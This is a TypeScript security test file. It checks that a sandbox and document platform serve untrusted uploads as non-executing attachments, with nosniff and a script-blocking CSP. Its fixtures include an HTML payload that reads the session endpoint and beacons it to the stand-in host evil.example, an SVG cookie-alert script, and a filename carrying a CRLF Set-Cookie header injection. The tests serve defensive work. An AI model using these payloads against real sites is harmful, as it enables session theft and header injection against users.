/**
 * Untrusted content served on our origin (issue 16.3). In the sandbox a
 * client sent `x.html` (or an SVG) with its own content type, and the
 * sandbox served it inline on the origin of `/api`: an admin who opened it
 * handed the script their CSRF token. Now every file that came from outside
 * — the sandbox's control API files, the emulator's Bot API file route and
 * the platform's document downloads — goes out with the type its bytes show,
 * `nosniff`, as an attachment unless it is an image, audio, video or PDF, and
 * under a CSP that runs no script.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { SandboxControl } from '../../src/sandbox/control.js';
import { startTestApp, validOffer, validRequest, type ApiClient, type TestApp } from '../helpers/app.js';

let app: TestApp;
let control: SandboxControl;
let clientId: number;
let botToken: string;
let png: Buffer;

const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/api/auth/session").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

beforeAll(async () => {
  app = await startTestApp();
  control = new SandboxControl(`${app.url}/tg`);
  clientId = (await control.createUser({ first_name: 'Злоумышленник' })).id;
  png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#ff0000' } }).png().toBuffer();
  const snapshot = path.join(app.hotline.config.dataDir, 'sandbox.json');
  // The emulator writes its snapshot a moment after a change.
  for (let i = 0; i < 200 && !fs.existsSync(snapshot); i++) await new Promise((resolve) => setTimeout(resolve, 50));
  botToken = (JSON.parse(fs.readFileSync(snapshot, 'utf8')) as { bots: Array<{ token: string }> }).bots[0]!.token;
});
afterAll(async () => {
  await app?.stop();
});

/** A client sends a document with the name and type they choose; returns its file_id. */
async function clientSends(fileName: string, mimeType: string, bytes: Buffer): Promise<string> {
  const [message] = await control.sendMessage({ from: clientId, media: { type: 'document', base64: bytes.toString('base64'), file_name: fileName, mime_type: mimeType } });
  return (message as unknown as { document: { file_id: string } }).document.file_id;
}

function expectNoScript(response: Response) {
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  const csp = response.headers.get('content-security-policy') ?? '';
  expect(csp).toMatch(/default-src 'none'/);
  expect(csp).not.toMatch(/script-src/);
}

describe('the sandbox serves clients\' files without running them', () => {
  for (const [name, type, bytes] of [
    ['x.html', 'text/html', HTML],
    ['x.svg', 'image/svg+xml', SVG],
    ['photo.png', 'image/png', HTML], // a lie: HTML bytes under an image's name and type
    ['x.xhtml', 'application/xhtml+xml', HTML],
  ] as const) {
    it(`${name} sent as ${type}: an attachment of type application/octet-stream, nosniff, sandboxed CSP`, async () => {
      const fileId = await clientSends(name, type, bytes);
      const response = await fetch(`${app.url}/tg/sandbox/files/${encodeURIComponent(fileId)}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('application/octet-stream');
      expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="/);
      expectNoScript(response);
      expect(response.headers.get('content-security-policy')).toMatch(/(^|; )sandbox$/);
      expect(Buffer.from(await response.arrayBuffer())).toEqual(Buffer.from(bytes));
    });
  }

  it('a real PNG is shown in place, as image/png, still under a sandboxed CSP', async () => {
    const fileId = await clientSends('photo.png', 'text/html', png);
    const response = await fetch(`${app.url}/tg/sandbox/files/${encodeURIComponent(fileId)}`);
    expect(response.headers.get('content-type')).toBe('image/png');
    expect(response.headers.get('content-disposition')).toMatch(/^inline; filename="photo.png"/);
    expectNoScript(response);
  });

  it('the Bot API file route (/tg/file/bot<token>/…) serves the HTML as a download too', async () => {
    const fileId = await clientSends('x.html', 'text/html', HTML);
    const file = (await (await fetch(`${app.url}/tg/bot${botToken}/getFile?file_id=${encodeURIComponent(fileId)}`)).json()) as { result: { file_path: string } };
    const response = await fetch(`${app.url}/tg/file/bot${botToken}/${file.result.file_path}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/octet-stream');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment;/);
    expectNoScript(response);
  });

  it('a name with quotes and line breaks cannot split the Content-Disposition header', async () => {
    const fileId = await clientSends('a"\r\nSet-Cookie: x=1;.html', 'text/html', HTML);
    const response = await fetch(`${app.url}/tg/sandbox/files/${encodeURIComponent(fileId)}`);
    expect(response.headers.get('set-cookie')).toBeNull();
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="a___Set-Cookie_ x=1;.html"/);
  });
});

describe('the platform serves stored documents without running them', () => {
  let customer: ApiClient;
  let requestId: number;
  beforeAll(async () => {
    customer = await app.signIn(await app.addUser({ role: 'customer', organization: 'ООО Файлы' }));
    const agent = await app.signIn(await app.addUser({ role: 'agent', organization: 'Агент Файлы' }));
    requestId = (await customer.post('/api/requests', validRequest())).body.id;
    const offer = await agent.post(`/api/requests/${requestId}/offers`, validOffer());
    expect((await customer.post(`/api/offers/${offer.body.id}/accept`)).status).toBe(200);
  });

  async function upload(name: string, bytes: Buffer, type: string): Promise<number> {
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(bytes)], { type }), name);
    const response = await fetch(`${app.url}/api/requests/${requestId}/documents`, { method: 'POST', headers: { cookie: customer.cookie, 'x-csrf-token': customer.csrfToken }, body: form });
    expect(response.status).toBe(200);
    return ((await response.json()) as { id: number }).id;
  }
  const download = (id: number, inline: boolean) => fetch(`${app.url}/api/documents/${id}/download${inline ? '?inline=1' : ''}`, { headers: { cookie: customer.cookie } });

  it('an image shown in place (inline=1) comes with a CSP that runs no script and sandboxes it', async () => {
    const id = await upload('scan.png', png, 'image/png');
    const response = await download(id, true);
    expect(response.headers.get('content-type')).toBe('image/png');
    expect(response.headers.get('content-disposition')).toMatch(/^inline;/);
    expectNoScript(response);
    expect(response.headers.get('content-security-policy')).toMatch(/; sandbox$/);
    const thumbnail = await fetch(`${app.url}/api/documents/${id}/thumbnail`, { headers: { cookie: customer.cookie } });
    expectNoScript(thumbnail);
  });

  it('a PDF shown in place is under a CSP that runs no script', async () => {
    const response = await download(await upload('contract.pdf', PDF, 'application/pdf'), true);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expectNoScript(response);
  });
});
